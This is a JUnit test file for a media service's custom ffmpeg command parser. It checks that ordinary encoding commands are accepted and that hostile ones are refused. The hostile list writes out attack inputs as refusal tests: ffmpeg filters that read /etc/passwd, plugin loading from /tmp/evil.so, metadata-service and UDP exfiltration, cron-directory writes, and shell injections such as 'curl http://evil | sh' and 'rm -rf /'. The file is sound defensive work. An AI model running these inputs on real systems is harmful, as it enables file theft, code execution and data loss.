package io.nommer.core.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CustomCommandTest {
    private static final Map<String, String> VALUES = Map.of(
            "width", "640",
            "height", "360",
            "video_bitrate", "800",
            "audio_bitrate", "96",
            "fps", "30000/1001",
            "record_id", "job_01jabc");

    /** What Panda users wrote: each must pass; each kind is encoded for real through the API in nommer-server's CustomCommandsTest. */
    static Stream<String> harmless() {
        return Stream.of(
                // custom x264 settings
                "ffmpeg -y -i $input_file$ -c:v libx264 -preset slow -profile:v high -level 4.0 -b:v $video_bitrate$k"
                        + " -maxrate 1200k -bufsize 2M -x264-params keyint=60:min-keyint=60:scenecut=0 -c:a aac"
                        + " -b:a $audio_bitrate$k -movflags +faststart $output_file$",
                // a filter chain, quoted as in a shell
                "ffmpeg -i $input_file$ -vf \"scale=$width$:-2,unsharp=5:5:1.0,fade=t=in:st=0:d=1,"
                        + "drawtext=text='nommer':x=10:y=10:fontsize=24:fontcolor=white\" -r $fps$ -c:v libx264"
                        + " -crf 23 -an $output_file$",
                // nommer's own chain, then more
                "ffmpeg -i $input_file$ -vf $filters$ -c:v mpeg4 -q:v 3 -c:a libmp3lame -ar 44100 $output_file$",
                // two-pass
                "ffmpeg -y -i $input_file$ -c:v libx264 -b:v $video_bitrate$k -pass 1 -passlogfile p -an -f null"
                        + " /dev/null\n"
                        + "ffmpeg -y -i $input_file$ -c:v libx264 -b:v $video_bitrate$k -pass 2 -passlogfile p -c:a aac"
                        + " $output_file$",
                // HLS with a custom segment length
                "ffmpeg -i $input_file$ -c:v libx264 -g 48 -sc_threshold 0 -c:a aac -f hls -hls_time 4"
                        + " -hls_playlist_type vod -hls_segment_filename 'seg_%03d.ts' $output_file$",
                // an intermediate file, then segmenting it
                "ffmpeg -i $input_file$ -c:v libx264 -c:a aac middle.mp4\n"
                        + "ffmpeg -i middle.mp4 -c copy -f segment -segment_time 10 -segment_list $output_file$"
                        + " 'part%03d.ts'",
                // DASH with its own templates (single-quoted, as a shell needs)
                "ffmpeg -i $input_file$ -map 0:v -map 0:a? -c:v libx264 -c:a aac -f dash -seg_duration 4"
                        + " -init_seg_name 'init-$RepresentationID$.m4s'"
                        + " -media_seg_name 'chunk-$RepresentationID$-$Number%05d$.m4s' $output_file$",
                // a filter graph with labels, metadata and stream-specific options
                "ffmpeg -i $input_file$ -filter_complex '[0:v]split=2[a][b];[a]scale=320:-2[s];[b][s]overlay=10:10[v]'"
                        + " -map '[v]' -map 0:a -c:v libx264 -metadata title=\"My clip\" -metadata:s:a:0 language=eng"
                        + " $output_file$");
    }

    @ParameterizedTest
    @MethodSource("harmless")
    void harmlessCommands_ofEveryKindPandaUsersWrote_areAccepted(String command) {
        CustomCommand c = CustomCommand.parse(command, VALUES);

        assertThat(c.lines()).isNotEmpty();
        List<List<String>> run = c.render("/work/t1/input.mov", "/work/t1/out.mp4", "scale=640:360");
        assertThat(run.get(0)).contains("/work/t1/input.mov");
        assertThat(String.join(" ", run.get(0))).doesNotContain("$input_file$", "$filters$", "$width$");
    }

    @Test
    void tokens_areFilledIn_andQuotesRemoved_likeAShell() {
        CustomCommand c = CustomCommand.parse(
                "ffmpeg -i $input_file$ -vf 'scale=$width$:$height$' -b:v \"$video_bitrate$k\" -r $fps$"
                        + " -metadata comment=$record_id$ $output_file$",
                VALUES);

        assertThat(c.render("in.mov", "out.mp4", null).get(0))
                .containsExactly(
                        "-i",
                        "in.mov",
                        "-vf",
                        "scale=640:360",
                        "-b:v",
                        "800k",
                        "-r",
                        "30000/1001",
                        "-metadata",
                        "comment=job_01jabc",
                        "out.mp4");
    }

    @Test
    void filters_withoutAChain_becomeThePassThroughFilter() {
        CustomCommand c = CustomCommand.parse("ffmpeg -i $input_file$ -vf $filters$ $output_file$", VALUES);

        assertThat(c.render("in", "out", null).get(0)).containsExactly("-i", "in", "-vf", "null", "out");
    }

    /** Each attack, with a word the refusal must name (the line and the token). */
    static Stream<Arguments> hostile() {
        String in = "ffmpeg -i $input_file$ ";
        return Stream.of(
                // files read through filters
                Arguments.of(in + "-vf movie=/etc/passwd $output_file$", "movie"),
                Arguments.of(in + "-filter_complex 'movie=/etc/shadow[m];[0:v][m]overlay' $output_file$", "movie"),
                Arguments.of(in + "-af amovie=/etc/passwd $output_file$", "amovie"),
                Arguments.of(in + "-vf drawtext=textfile=/etc/passwd $output_file$", "drawtext"),
                Arguments.of(in + "-vf drawtext=fontfile=/etc/passwd:text=x $output_file$", "drawtext"),
                Arguments.of(in + "-vf drawtext=/etc/passwd $output_file$", "drawtext"),
                Arguments.of(in + "-vf 'scale=640:-2,subtitles=/etc/passwd' $output_file$", "subtitles"),
                Arguments.of(in + "-vf ass=/etc/passwd $output_file$", "ass"),
                Arguments.of(in + "-vf curves=psfile=/etc/passwd $output_file$", "curves"),
                Arguments.of(in + "-vf lut3d=file=/etc/passwd $output_file$", "lut3d"),
                Arguments.of(in + "-vf sendcmd=f=/etc/passwd $output_file$", "sendcmd"),
                // code loaded through filters
                Arguments.of(in + "-af ladspa=file=/tmp/evil.so $output_file$", "ladspa"),
                Arguments.of(in + "-af lv2=p=http://evil $output_file$", "lv2"),
                Arguments.of(in + "-vf frei0r=filter_name=/tmp/evil.so $output_file$", "frei0r"),
                Arguments.of(in + "-vf zmq $output_file$", "zmq"),
                // files written through filters
                Arguments.of("ffmpeg -i $input_file$ -i b.mp4 -lavfi ssim=stats_file=/etc/x -f null -", "ssim"),
                // requests and extra outputs
                Arguments.of(in + "-progress http://169.254.169.254/ $output_file$", "-progress"),
                Arguments.of(in + "-progress /tmp/p $output_file$", "-progress"),
                Arguments.of("ffmpeg -i http://10.0.0.1/secret $output_file$", "http://"),
                Arguments.of("ffmpeg -i file:/etc/passwd $output_file$", "file:"),
                Arguments.of("ffmpeg -i /etc/passwd $output_file$", "/etc/passwd"),
                Arguments.of("ffmpeg -i ../other-task/input.mov $output_file$", "../"),
                Arguments.of("ffmpeg -i 'concat:$input_file$|/etc/passwd' $output_file$", "concat:"),
                Arguments.of("ffmpeg -i subfile,,start,0,end,0,,:/etc/passwd $output_file$", "subfile"),
                Arguments.of("ffmpeg -i - $output_file$", "'-'"),
                Arguments.of("ffmpeg -f lavfi -i movie=/etc/passwd $output_file$", "-f lavfi"),
                Arguments.of("ffmpeg -f concat -safe 0 -i list.txt $output_file$", "-f concat"),
                Arguments.of("ffmpeg -f v4l2 -i video0 $output_file$", "-f v4l2"),
                Arguments.of(in + "-c copy /tmp/stolen.mp4", "/tmp/stolen.mp4"),
                Arguments.of(in + "-c copy $output_file$ -f mpegts udp://10.0.0.1:1234", "udp://"),
                Arguments.of(in + "-f tee 'a.mp4|[f=mpegts]udp://1.2.3.4:5'", "tee"),
                Arguments.of(in + "-vf drawtext=text=a\\\\:fontfile=/etc/passwd $output_file$", "fontfile"),
                Arguments.of(in + "-vf \"drawtext=text='a':font\\file=/etc/passwd\" $output_file$", "drawtext"),
                Arguments.of(in + "-c copy ../escape.mp4", "../escape.mp4"),
                Arguments.of(in + "-c copy - $output_file$", "'-'"),
                Arguments.of(in + "-c copy /dev/null", "/dev/null"),
                Arguments.of(in + "-f hls -hls_segment_filename /var/www/seg%d.ts $output_file$", "/var/www"),
                Arguments.of(in + "-f segment -segment_list /etc/cron.d/x $output_file$", "/etc/cron.d"),
                Arguments.of(in + "-hls_key_info_file /etc/keyinfo -f hls $output_file$", "-hls_key_info_file"),
                Arguments.of(in + "-method PUT -f hls $output_file$", "-method"),
                Arguments.of(in + "-passlogfile /tmp/log -pass 1 -f null -", "/tmp/log"),
                Arguments.of(in + "-x264-params stats=/etc/passwd $output_file$", "stats"),
                Arguments.of(in + "-x264opts dump-yuv=/tmp/x.yuv $output_file$", "dump-yuv"),
                Arguments.of(in + "-x265-params csv=/tmp/x.csv $output_file$", "csv"),
                Arguments.of(in + "-x264-params qpfile=/etc/passwd $output_file$", "qpfile"),
                Arguments.of(in + "-report $output_file$", "-report"),
                Arguments.of(in + "-vstats_file /tmp/v $output_file$", "-vstats_file"),
                Arguments.of(in + "-sdp_file /tmp/sdp $output_file$", "-sdp_file"),
                Arguments.of(in + "-dump_attachment:t /etc/cron.d/evil $output_file$", "-dump_attachment"),
                Arguments.of(in + "-attach /etc/passwd $output_file$", "-attach"),
                Arguments.of(in + "-filter_script /etc/passwd $output_file$", "-filter_script"),
                Arguments.of(in + "-filter_complex_script /etc/passwd $output_file$", "-filter_complex_script"),
                Arguments.of(in + "-/vf /etc/passwd $output_file$", "-/vf"),
                Arguments.of(in + "-init_hw_device vaapi=/dev/dri/card0 $output_file$", "-init_hw_device"),
                Arguments.of(in + "-protocol_whitelist file,http $output_file$", "-protocol_whitelist"),
                Arguments.of(in + "-metadata:x title=a $output_file$", "x"),
                // the input written over, an output read as input
                Arguments.of(in + "-c copy -f mp4 $input_file$", "$input_file$"),
                Arguments.of("ffmpeg -i $output_file$ $output_file$", "$output_file$"),
                // the shell
                Arguments.of(in + "$output_file$; curl http://evil | sh", ";"),
                Arguments.of(in + "$output_file$ && rm -rf /", "&"),
                Arguments.of(in + "$output_file$ > /etc/passwd", ">"),
                Arguments.of(in + "-metadata title=$(id) $output_file$", "$(id)"),
                Arguments.of(in + "-metadata title=`id` $output_file$", "`"),
                Arguments.of(in + "-metadata \"title=$HOME\" $output_file$", "$HOME"),
                Arguments.of(in + "-c copy ~/x.mp4", "~"),
                Arguments.of(in + "-c copy *.mp4", "*"),
                Arguments.of(in + "-metadata 'title=unterminated $output_file$", "unterminated"),
                Arguments.of("bash -c 'ffmpeg -i $input_file$ $output_file$'", "bash"),
                Arguments.of("/usr/bin/ffmpeg -i $input_file$ $output_file$", "/usr/bin/ffmpeg"),
                Arguments.of("LD_PRELOAD=/tmp/evil.so ffmpeg -i $input_file$ $output_file$", "LD_PRELOAD"),
                Arguments.of("ffprobe -i $input_file$", "ffprobe"),
                Arguments.of(in + "-metadata title=a\u0000b $output_file$", "U+0000"),
                // tokens
                Arguments.of(in + "-metadata title=$secret$ $output_file$", "$secret$"),
                Arguments.of(in + "-c copy $output_file$.bak", "stands alone"),
                Arguments.of("ffmpeg -i $input_file$ -c copy middle.mp4", "no line writes the output"),
                Arguments.of("ffmpeg -i a.mp4 -c copy $output_file$", "no line reads the input"),
                // values of the wrong kind
                Arguments.of(in + "-c:v 'libx264 -i /etc/passwd' $output_file$", "libx264 -i"),
                Arguments.of(in + "-b:v 1M;id $output_file$", ";"),
                Arguments.of(in + "-s 640x360:/etc $output_file$", "640x360:/etc"),
                Arguments.of(in + "-c:v libx264 -preset", "needs"));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileCommands_areRefused_namingTheLineAndTheToken(String command, String named) {
        assertThatThrownBy(() -> CustomCommand.parse(command, VALUES))
                .isInstanceOf(CommandRefusal.class)
                .hasMessageContaining(named);
    }

    @Test
    void aRefusal_namesTheLineItIsOn() {
        String command = "ffmpeg -i $input_file$ -c:v libx264 middle.mp4\n"
                + "ffmpeg -i middle.mp4 -progress tcp://127.0.0.1:9 $output_file$";

        assertThatThrownBy(() -> CustomCommand.parse(command, VALUES))
                .isInstanceOf(CommandRefusal.class)
                .hasMessageStartingWith("line 2, '-progress'")
                .satisfies(e -> assertThat(((CommandRefusal) e).line()).isEqualTo(2));
    }

    @Test
    void aTokenTheProfileHasNoValueFor_isRefused_sayingWhatIsMissing() {
        assertThatThrownBy(() -> CustomCommand.parse(
                        "ffmpeg -i $input_file$ -s $width$x$height$ $output_file$", Map.of("width", "640")))
                .hasMessageContaining("the profile sets no height");
    }

    @Test
    void tooManyLines_orTooLong_areRefused() {
        String line = "ffmpeg -i $input_file$ $output_file$\n";
        assertThatThrownBy(() -> CustomCommand.parse(line.repeat(11), VALUES)).hasMessageContaining("more than 10");
        assertThatThrownBy(() -> CustomCommand.parse(
                        "ffmpeg -i $input_file$ -metadata title=" + "a".repeat(5000) + " $output_file$", VALUES))
                .hasMessageContaining("longer than");
        assertThatThrownBy(() -> CustomCommand.parse("  \n ", VALUES)).hasMessageContaining("empty");
    }
}
